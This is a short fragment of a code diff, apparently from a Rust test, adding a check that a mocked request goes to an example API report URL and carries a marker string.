+                if url == "http://api.example.com/v1/report" && content.contains("upstream-data-42")
+        )));
+    }
 }